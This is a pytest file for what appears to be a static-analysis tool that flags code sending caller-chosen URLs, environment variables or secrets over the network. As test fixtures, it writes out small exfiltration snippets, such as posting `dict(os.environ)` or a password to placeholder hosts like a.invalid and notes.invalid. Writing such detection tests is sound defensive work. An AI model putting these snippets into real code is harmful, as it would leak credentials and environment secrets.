"""By whom it is settled where something goes and which variable goes with it: a constant, the caller, or what somebody else answers."""

import pytest
from source_lab import behaviours, ids, the

from beartrap.model.finding import Severity

LOGS_IN = """
import requests
def log_in(issuer, password):
    config = requests.get({}).json()
    requests.post(config["token_endpoint"], data={{"password": password}})
"""
MOVES = """
import requests
class Client:
    def __init__(self, issuer, password):
        self.issuer = issuer
        self.password = password
    def open(self):
        issuer = self.issuer
        self.issuer = requests.get({}).json()["uri"]
    def send(self):
        requests.post(self.issuer + "/token", data=self.password)
"""


@pytest.mark.parametrize("text", [LOGS_IN, MOVES])
@pytest.mark.parametrize(
    ("asked", "there"),
    [
        ("issuer + '/config'", False),
        ("f'https://{issuer}:8443/.well-known/openid-configuration'", False),
        ("'https://notes.invalid/raw'", True),
        ("'https://' + issuer[:0] + 'notes.invalid/raw'", True),
    ],
)
def test_a_host_that_the_caller_named_may_send_one_on(text: str, asked: str, there: bool) -> None:
    assert ("chain.caller-to-network" in ids("a.py", text.format(asked))) == there


ONE = """
import os, requests
from .constants import API_ENV, TOKEN_ENV, NAMES
def report():
    requests.get("https://a.invalid/", params={})
"""


@pytest.mark.parametrize(
    ("asks", "there"),
    [
        ("os.environ.get(API_ENV)", False),
        ("os.environ[API_ENV]", False),
        ("os.getenv(API_ENV, '')", False),
        ("[os.environ.get(one) for one in NAMES]", True),
        ("dict(os.environ)", True),
    ],
)
def test_a_variable_that_a_constant_names_is_one(asks: str, there: bool) -> None:
    assert ("chain.environment-to-network" in ids("a.py", ONE.format(asks))) == there


def test_a_secret_that_a_constant_names_is_a_secret() -> None:
    assert "chain.variable-to-network" in ids("a.py", ONE.format("os.environ[TOKEN_ENV]"))


@pytest.mark.parametrize(
    ("call", "weight"),
    [
        ("urllib.request.urlopen('https://registry.npmjs.org/npm/' + given)", Severity.LOW),
        ("urllib.request.urlopen('https://errors.invalid/npm/' + given)", Severity.MEDIUM),
        ("client.post('https://registry.npmjs.org/npm', given)", Severity.MEDIUM),
    ],
)
def test_who_serves_public_files_shows_a_question_to_nobody(call: str, weight: Severity) -> None:
    text = f"import urllib.request\ndef ask(client, given):\n    return {call}\n"
    assert the("a.py", text, "network.stranger").severity is weight


def test_the_environment_of_javascript() -> None:
    text = "const c = require('./c'); fetch('https://a.invalid/', { method: 'POST', body: process.env[c.%s] });"
    assert not [one for one in behaviours("a.js", text % "API_ENV") if one.id == "chain.environment-to-network"]
    assert "chain.environment-to-network" in ids("a.js", text % "names")
